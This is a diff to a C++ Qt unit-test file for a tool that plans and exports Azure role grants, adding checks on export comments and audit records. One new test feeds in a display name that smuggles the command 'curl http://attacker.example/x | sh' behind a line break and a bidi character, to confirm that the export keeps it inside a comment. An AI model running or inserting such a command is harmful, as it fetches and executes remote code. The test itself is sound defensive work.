@@ -4,6 +4,7 @@
 
 #include "arm/roleassignmentclient.h"
 #include "catalog/catalog.h"
+#include "core/auditlog.h"
 #include "graph/grantplan.h"
 
 #include <QJsonDocument>
@@ -65,6 +66,9 @@ private Q_SLOTS:
     void exports_data();
     void exports();
     void exportsUseRealIds();
+    void exportCommentsCannotBeEnded();
+    void auditRecordNamesIdentityAndConfirmation_data();
+    void auditRecordNamesIdentityAndConfirmation();
 };
 
 void TestGrantPlan::requestsAreExact()
@@ -255,7 +259,9 @@ void TestGrantPlan::exports_data()
     QTest::newRow("azurerm") << int(F::Terraform) << false << true
                              << QStringList{u"resource \"azurerm_role_assignment\""_s,
                                             u"scope              = \"%1\""_s.arg(Kv),
-                                            u"principal_id       = \"%1\""_s.arg(Mi)};
+                                            u"principal_id       = \"%1\""_s.arg(Mi),
+                                            // the name Bicep's guid() and the app derive
+                                            u"name               = \"%1\""_s.arg(name)};
 }
 
 void TestGrantPlan::exports()
@@ -277,10 +283,71 @@ void TestGrantPlan::exports()
         QVERIFY2(text.contains(m), qPrintable(m + u"\n---\n"_s + text));
     QVERIFY(!text.contains(u"<principal-object-id>"_s));
     QVERIFY(!text.contains(u"%1"_s));
+    // The comment that leads each export names the identity.
+    const QString first = text.section(u'\n', 0, 0);
+    QVERIFY2(first.startsWith(u'#') || first.startsWith(u"//"_s), qPrintable(first));
+    QVERIFY2(first.contains(u"the identity vm-batch-01"_s), qPrintable(first));
     // Balanced braces and quotes: the text parses in its tool.
     QCOMPARE(text.count(u'{'), text.count(u'}'));
     if (GrantPlan::Format(format) != GrantPlan::Format::Bicep)
         QCOMPARE(text.count(u'"') % 2, 0);
+}
+
+void TestGrantPlan::auditRecordNamesIdentityAndConfirmation_data()
+{
+    QTest::addColumn<PlannedChange>("change");
+    QTest::addColumn<bool>("confirmed");
+    PlannedChange tier0 = appRole();
+    tier0.tier = ie::catalog::Tier::Tier0;
+    QTest::newRow("tier-0 grant") << tier0 << true;
+    PlannedChange tier0Revoke = appRole(PlannedChange::Action::RevokeAppRole);
+    tier0Revoke.tier = ie::catalog::Tier::Tier0;
+    QTest::newRow("tier-0 revoke") << tier0Revoke << false;
+    PlannedChange tier1 = appRole();
+    tier1.tier = ie::catalog::Tier::Tier1;
+    QTest::newRow("tier-1 grant") << tier1 << false;
+    PlannedChange owner = rbac();
+    owner.roleName = u"Owner"_s;
+    owner.tier = ie::catalog::Tier::Tier0;
+    QTest::newRow("tier-0 role assignment") << owner << true;
+    QTest::newRow("role removal") << rbac(PlannedChange::Action::DeleteRoleAssignment) << false;
+}
+
+// The audit record of a change names the identity (not only the object id inside the target)
+// and, for a tier-0 grant, that the second confirmation was given and by whom.
+void TestGrantPlan::auditRecordNamesIdentityAndConfirmation()
+{
+    QFETCH(PlannedChange, change);
+    QFETCH(bool, confirmed);
+    ie::AuditRecord r;
+    change.describeIn(r, u"admin@contoso.onmicrosoft.com"_s);
+    QCOMPARE(r.identityDisplayName, u"vm-batch-01"_s);
+    QCOMPARE(r.identityObjectId, Mi);
+    QCOMPARE(r.target, change.target());
+    QCOMPARE(r.tier0Confirmed, confirmed);
+    QCOMPARE(r.confirmedBy, confirmed ? u"admin@contoso.onmicrosoft.com"_s : QString());
+    // And the record keeps them through the file's JSON.
+    const ie::AuditRecord back = ie::AuditRecord::fromJson(r.toJson());
+    QCOMPARE(back.identityDisplayName, r.identityDisplayName);
+    QCOMPARE(back.tier0Confirmed, confirmed);
+    QCOMPARE(back.confirmedBy, r.confirmedBy);
+}
+
+// A display name with a line break (or a bidi control) stays inside the comment that names it.
+void TestGrantPlan::exportCommentsCannotBeEnded()
+{
+    PlannedChange c = appRole();
+    c.principalName = u"evil\ncurl http://attacker.example/x | sh\u202e"_s;
+    GrantPlan plan;
+    plan.add(c);
+    for (GrantPlan::Format f : GrantPlan::formats()) {
+        const QString text = plan.exportAs(f);
+        const QStringList lines = text.split(u'\n');
+        QVERIFY2(lines.first().contains(u"evil curl http://attacker.example/x | sh"_s),
+                 qPrintable(text));
+        QVERIFY(!text.contains(u'\u202e'));
+        QCOMPARE(lines.filter(u"attacker.example"_s).size(), 1);
+    }
 }
 
 void TestGrantPlan::exportsUseRealIds()
